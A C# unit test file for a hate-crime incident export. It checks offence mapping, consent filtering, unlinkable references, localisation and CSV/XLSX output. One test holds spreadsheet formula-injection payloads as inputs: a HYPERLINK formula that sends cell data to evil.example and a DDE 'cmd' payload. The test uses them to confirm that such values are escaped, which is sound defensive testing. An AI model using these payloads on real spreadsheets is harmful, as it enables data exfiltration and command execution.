using Dalel.Core.Cases;
using Dalel.Core.HateCrime;
using Dalel.Core.Members;
using Dalel.Core.Tests.Submissions;
using Dalel.Core.Tests.Support;

namespace Dalel.Core.Tests.HateCrime;

public sealed class HateCrimeExportTests : IDisposable
{
    private readonly TestInstance _test = TestInstance.Create();

    private Guid Record(string violation, bool criminal = true, string[]? indicators = null, string summary = "A man was beaten after a date arranged online.", bool story = true, int year = 2024, bool statistics = true)
    {
        var content = SampleCases.Valid(violation: violation);
        content = content with
        {
            Date = new IncidentDate(DatePrecision.Day, new DateOnly(year, 4, 12), new DateOnly(year, 4, 12)),
            Victims = content.Victims.Select(v => v with { Consents = statistics ? v.Consents : [] }).ToList(),
            HateCrime = new HateCrimeAssessment { CriminalOffence = criminal, BiasIndicators = indicators ?? ["slurs_or_statements"], PublicSummary = summary },
            Interventions = [new Intervention { Type = "complaint_police", Response = "refused_to_register" }],
        };
        if (story)
        {
            content = SubmissionTests.WithStoryConsent(content);
        }

        return new RecordCase(_test.Instance).Run(_test.OwnerOfA, content).Value;
    }

    private HateCrimeReport Select(int year = 2024, string language = "en") => new ExportHateCrimes(_test.Instance).Select(_test.OwnerOfA, year, language).Value;

    private const string Facts = "Victims: 1. What happened: Physical assault. Perpetrators: Police. Bias indicators: Perpetrator's slurs, statements or gestures about SOGIESC.";

    [Theory]
    [InlineData("physical_assault", "", "violent_attack")]
    [InlineData("sexual_violence", "", "violent_attack")]
    [InlineData("police_violence", "physical_injury", "violent_attack")]
    [InlineData("police_violence", "", "other")]
    [InlineData("police_violence,extortion_blackmail,threat_of_outing", "financial_loss", "threat")]
    [InlineData("fake_dating", "", "threat")]
    [InlineData("fake_dating", "physical_injury", "violent_attack")]
    [InlineData("extortion_blackmail", "property_damage", "property")]
    [InlineData("threats", "", "threat")]
    [InlineData("threat_of_outing", "", "threat")]
    [InlineData("property_damage", "", "property")]
    [InlineData("raid", "", "other")]
    [InlineData("arbitrary_detention", "physical_injury", "violent_attack")]
    [InlineData("outing_by_media", "", "other")]
    [InlineData("hate_speech_media", "", null)]
    [InlineData("discrimination_employment", "job_loss", null)]
    [InlineData("legal_gender_recognition_refused", "", null)]
    public void Each_act_gets_an_offence_type_from_its_violations_and_consequences(string violations, string consequences, string? expected)
    {
        var act = new Act
        {
            Id = Guid.NewGuid(), VictimId = Guid.NewGuid(), Violations = violations.Split(','),
            Consequences = consequences.Length == 0 ? [] : consequences.Split(','),
        };

        Assert.Equal(expected, OffenceMapping.Shipped.TypeOf(act));
    }

    [Fact]
    public void Every_offence_rule_names_known_codes_and_every_violation_is_decided_on_purpose()
    {
        var violations = _test.Instance.Catalog[Dalel.Core.Vocabularies.Catalog.Violations].Terms.Select(t => t.Code).ToHashSet();
        var consequences = _test.Instance.Catalog[Dalel.Core.Vocabularies.Catalog.Consequences].Terms.Select(t => t.Code).ToHashSet();

        Assert.All(OffenceMapping.Shipped.Rules, r => Assert.Contains(r.Type, OffenceMapping.Types));
        Assert.All(OffenceMapping.Shipped.Rules.SelectMany(r => r.Violations), v => Assert.Contains(v, violations));
        Assert.All(OffenceMapping.Shipped.Rules.SelectMany(r => r.Consequences), c => Assert.Contains(c, consequences));
    }

    [Fact]
    public void An_instance_can_replace_the_mapping_and_a_broken_one_is_refused_by_name()
    {
        Record("police_violence");
        var path = Path.Combine(_test.Instance.Options.DataDirectory, OffenceMapping.FileName);
        Assert.Equal("Other", Select().Incidents.Single().IncidentType);

        File.WriteAllText(path, """{ "version": "local", "rules": [ { "type": "violent_attack", "violations": ["police_violence"] } ] }""");
        Assert.Equal("Violent attack", Select().Incidents.Single().IncidentType);

        File.WriteAllText(path, """{ "version": "local", "rules": [ { "type": "riot", "violations": ["police_beating"] } ] }""");
        var error = Assert.IsType<Invalid>(new ExportHateCrimes(_test.Instance).Select(_test.OwnerOfA, 2024).Error);
        Assert.Contains("riot", error.Errors.Single().Args[1], StringComparison.Ordinal);
        Assert.Contains("police_beating", error.Errors.Single().Args[1], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("en")]
    [InlineData("ru")]
    [InlineData("kk")]
    public void Every_incident_has_a_description_and_Russian_and_Kazakh_exports_carry_no_English(string language)
    {
        Record("physical_assault");
        Record("police_violence", story: false);
        Record("fake_dating", summary: "Police officers demanded money under threat of outing.");
        Record("property_damage", summary: "");

        var incidents = Select(language: language).Incidents;

        Assert.Equal(4, incidents.Count);
        Assert.All(incidents, i => Assert.NotEqual("", i.Description));
        Assert.All(incidents, i => Assert.Matches(@"^DL-2024-[0-9A-F]{6}$", i.Reference));
        if (language != "en")
        {
            // The organisation's name is a proper name and the reference a code; everything else is in the language.
            var cells = incidents.SelectMany(i => new[] { i.Date, i.Region, i.BiasCategory, i.IncidentType, i.Target, i.Perpetrators, i.BiasIndicators, i.Description, i.Source, i.ReportedToPolice, i.PoliceResponse });
            Assert.All(cells, c => Assert.DoesNotMatch("[A-Za-z]", c));
        }
    }

    [Fact]
    public void The_reference_is_stable_and_cannot_be_matched_to_a_stored_case_without_the_key()
    {
        var id = Record("physical_assault");
        var first = Select().Incidents.Single().Reference;

        Assert.Equal(first, Select().Incidents.Single().Reference);
        // Police with the data directory see case ids in the clear; unkeyed hashes of them would find the row.
        Span<byte> both = stackalloc byte[32];
        _test.OrgA.TryWriteBytes(both[..16]);
        id.TryWriteBytes(both[16..]);
        foreach (var guess in new[] { System.Security.Cryptography.SHA256.HashData(both), System.Security.Cryptography.SHA256.HashData(id.ToByteArray()) })
        {
            Assert.NotEqual($"DL-2024-{Convert.ToHexString(guess, 0, 3)}", first);
        }

        Assert.DoesNotContain(id.ToString("N")[..6].ToUpperInvariant(), first, StringComparison.Ordinal);
    }

    [Fact]
    public void Only_the_chosen_State_is_exported()
    {
        Record("physical_assault");
        var content = SampleCases.Valid(violation: "physical_assault") with
        {
            Date = new IncidentDate(DatePrecision.Month, new DateOnly(2024, 5, 1), new DateOnly(2024, 5, 31)),
            Place = new Place { Country = "KG", Region = "bishkek" },
            HateCrime = new HateCrimeAssessment { CriminalOffence = true, BiasIndicators = ["slurs_or_statements"] },
        };
        Assert.True(new RecordCase(_test.Instance).Run(_test.OwnerOfA, content).IsOk);

        Assert.Equal(["Almaty (city)"], Select().Incidents.Select(i => i.Region));
        Assert.Equal(["Bishkek (city)"], new ExportHateCrimes(_test.Instance).Select(_test.OwnerOfA, 2024, "en", "KG").Value.Incidents.Select(i => i.Region));
    }

    [Fact]
    public void The_XLSX_has_a_frozen_bold_header_fitted_widths_and_wrapped_text()
    {
        Record("physical_assault");
        using var xlsx = new MemoryStream();
        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Xlsx, xlsx).IsOk);

        using var document = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(new MemoryStream(xlsx.ToArray()), false);
        Assert.Empty(new DocumentFormat.OpenXml.Validation.OpenXmlValidator().Validate(document));
        var sheet = document.WorkbookPart!.WorksheetParts.Single().Worksheet!;
        var widths = sheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Column>().Select(c => c.Width!.Value).ToList();
        Assert.Equal(14, widths.Count);
        Assert.True(widths.Max() >= 50, "the description column is wide");
        Assert.Equal(DocumentFormat.OpenXml.Spreadsheet.PaneStateValues.Frozen, sheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Pane>().Single().State!.Value);
        var formats = document.WorkbookPart.WorkbookStylesPart!.Stylesheet!.CellFormats!.Elements<DocumentFormat.OpenXml.Spreadsheet.CellFormat>().ToList();
        var description = sheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Cell>().Single(c => c.CellReference == "J2");
        Assert.True(formats[(int)description.StyleIndex!.Value].Alignment!.WrapText!.Value);
        Assert.Equal(DocumentFormat.OpenXml.Spreadsheet.CellValues.Number, sheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Cell>().Single(c => c.CellReference == "G2").DataType!.Value);
    }

    [Fact]
    public void Only_criminal_offences_with_a_bias_indicator_of_the_year_are_reported()
    {
        Record("physical_assault");
        Record("fake_dating");
        Record("property_damage");
        Record("hate_speech_media"); // speech alone is not a hate crime
        Record("physical_assault", criminal: false);
        Record("physical_assault", indicators: []);
        Record("physical_assault", year: 2023);

        var incidents = Select().Incidents;

        Assert.Equal(["Attack on property/Property", "Threat/Person", "Violent attack/Person"], incidents.Select(i => $"{i.IncidentType}/{i.Target}").Order(StringComparer.Ordinal));
        Assert.All(incidents, i => Assert.Equal(("2024-04", "Almaty (city)", "Anti-LGBTI", "Yes"), (i.Date, i.Region, i.BiasCategory, i.ReportedToPolice)));
    }

    [Fact]
    public void Consent_decides_what_goes_out_and_descriptions_with_identifying_details_are_withheld()
    {
        Record("physical_assault", statistics: false);
        Record("physical_assault", story: false);
        Record("physical_assault", summary: "Test was beaten on 12 April 2024 in the park.");
        Record("physical_assault");

        var report = Select();

        Assert.Equal(1, report.LeftOutForConsent);
        Assert.Equal(3, report.Incidents.Count);
        Assert.Equal(["A man was beaten after a date arranged online.", Facts, Facts], report.Incidents.Select(i => i.Description).Order(StringComparer.Ordinal));
        Assert.Equal([false, true, true], report.Incidents.Select(i => i.DescriptionFromFacts).Order());
        Assert.Equal(2, report.DescriptionsWithheld);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
    [InlineData("@SUM(1+1)")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    public void A_public_summary_that_a_spreadsheet_would_run_is_written_as_text(string summary)
    {
        Record("physical_assault", summary: summary);
        using var csv = new MemoryStream();

        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Csv, csv).IsOk);

        var text = System.Text.Encoding.UTF8.GetString(csv.ToArray());
        var cells = text.Split('\n')[1];
        Assert.Contains("'" + summary[0], cells, StringComparison.Ordinal);
        Assert.DoesNotContain("," + summary[0], cells, StringComparison.Ordinal);
        Assert.DoesNotContain("\"" + summary[0], cells, StringComparison.Ordinal);
    }

    [Fact]
    public void The_export_is_written_as_CSV_and_XLSX_and_needs_the_export_capability()
    {
        Record("physical_assault");
        using var csv = new MemoryStream();
        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Csv, csv).IsOk);
        var lines = System.Text.Encoding.UTF8.GetString(csv.ToArray()).TrimStart('\uFEFF').Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        Assert.StartsWith("Incident reference,Date (month),Region,Bias motivation,Type of incident", lines[0], StringComparison.Ordinal);

        using var xlsx = new MemoryStream();
        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Xlsx, xlsx).IsOk);
        xlsx.Position = 0;
        var rows = MiniExcelLibs.MiniExcel.Query(xlsx).ToList();
        Assert.Equal(2, rows.Count);

        Assert.IsType<Forbidden>(new ExportHateCrimes(_test.Instance).Select(TestInstance.Scope(_test.OrgA, Role.Analyst), 2024).Error);
        Assert.Empty(new ExportHateCrimes(_test.Instance).Select(_test.OwnerOfB, 2024).Value.Incidents);
    }

    public void Dispose() => _test.Dispose();
}
